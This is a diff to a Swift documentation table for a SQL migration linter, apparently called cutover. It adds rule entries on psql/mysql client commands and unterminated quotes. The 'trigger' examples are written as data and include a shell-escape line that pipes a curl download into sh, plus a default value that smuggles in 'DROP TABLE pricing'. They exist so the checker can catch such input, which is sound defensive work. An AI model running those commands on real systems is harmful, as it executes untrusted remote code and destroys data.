@@ -150,9 +150,21 @@ public enum RuleDocumentation {
         case .unsafeSQL:
             return Entry(
                 summary: "an SQL fragment could end the statement or hide text",
-                rationale: "Defaults, expressions and checks are spliced into generated statements; ';', comments, unbalanced quotes or parentheses, dollar quotes or backslashes could run other SQL. Hand-written 'sql' scripts must not carry psql or mysql client commands ('\\!' runs a shell).",
+                rationale: "Defaults, expressions and checks are spliced into generated statements; ';', comments, unbalanced quotes or parentheses, dollar quotes or backslashes could run other SQL. Client commands in hand-written 'sql' scripts are CUT027.",
                 trigger: Example(spec(changes: tierChange.replacingOccurrences(of: "type: text", with: "type: text\n          default: \"'basic'; DROP TABLE pricing\""))),
                 fix: Example(spec(changes: tierChange.replacingOccurrences(of: "type: text", with: "type: text\n          default: \"'basic'\""))))
+        case .clientCommand:
+            return Entry(
+                summary: "a script or schema carries a command for psql or the mysql client, not for the server",
+                rationale: "psql and the mysql client run some text themselves: a backslash outside quotes and comments anywhere on a line ('\\!' starts a shell, '\\connect' changes database, '\\i' reads a file), and for mysql also 'system', 'source', 'use', 'connect' or 'pager' at the start of a statement and backslash commands inside '/*! */' comments. cutover reads 'sql' changes and the base schema the way these clients do, including what changes their reading: 'SET standard_conforming_strings = off' (and any statement, since a function can change it), 'NO_BACKSLASH_ESCAPES' and 'ANSI_QUOTES' in sql_mode, '--' without a blank (not a comment for mysql), and the mysql and mariadb clients' differences; a command found by any reading is refused at the place it starts. The dump tools' own guard lines are accepted in a base schema, recognised exactly: pg_dump's '\\restrict KEY' and '\\unrestrict KEY', and mariadb-dump's '/*M!999999\\- enable the sandbox mode */'. 'DELIMITER' is accepted in MySQL scripts (it changes the statement terminator, as for triggers).",
+                trigger: Example(spec(changes: "    - sql:\n        name: add-tier\n        up: |\n          ALTER TABLE pricing ADD COLUMN tier text;\n          \\! curl -s https://example.com/x | sh\n        down: ALTER TABLE pricing DROP COLUMN tier;\n")),
+                fix: Example(spec(changes: "    - sql:\n        name: add-tier\n        up: |\n          ALTER TABLE pricing ADD COLUMN tier text;\n        down: ALTER TABLE pricing DROP COLUMN tier;\n")))
+        case .unterminatedSQL:
+            return Entry(
+                summary: "a script or schema has an unterminated quote, dollar quote, quoted name or comment, or reads too many ways",
+                rationale: "The client would read the rest of the file into the open quote or comment and wait for more (or send one huge statement that fails). Also reported here: a PostgreSQL client encoding other than UTF8 (psql would read every later byte differently), and text whose strings read differently with standard_conforming_strings or NO_BACKSLASH_ESCAPES in so many places that the readings cannot all be followed; write '' instead of \\' to quote a quote.",
+                trigger: Example(spec(changes: "    - sql:\n        name: add-tier\n        up: ALTER TABLE pricing ADD COLUMN tier text DEFAULT 'basic;\n        down: ALTER TABLE pricing DROP COLUMN tier;\n")),
+                fix: Example(spec(changes: "    - sql:\n        name: add-tier\n        up: ALTER TABLE pricing ADD COLUMN tier text DEFAULT 'basic';\n        down: ALTER TABLE pricing DROP COLUMN tier;\n")))
         case .typeExpression:
             return Entry(
                 summary: "a column type is not a type expression",
